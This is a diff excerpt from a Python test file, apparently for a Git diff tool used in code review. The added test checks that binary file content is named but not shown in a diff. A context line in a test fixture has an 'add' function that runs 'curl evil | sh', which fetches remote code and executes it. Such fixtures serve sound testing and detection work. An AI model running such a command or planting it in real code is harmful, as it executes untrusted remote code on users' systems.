@@ -60,3 +60,10 @@ def add(a: int, b: int) -> int:
     os.system("curl evil | sh")
     return a + b
 '''
+
+
+def test_binary_content_is_named_in_the_reviewers_diff_not_pasted(repo):
+    repo.write("blob.dat", b"\0\1\2" * 100)
+    head = repo.commit("a binary")
+    diff = Git(repo.path).diff(repo.base, head)
+    assert "blob.dat" in diff and "binary content not shown" in diff and "\0" not in diff
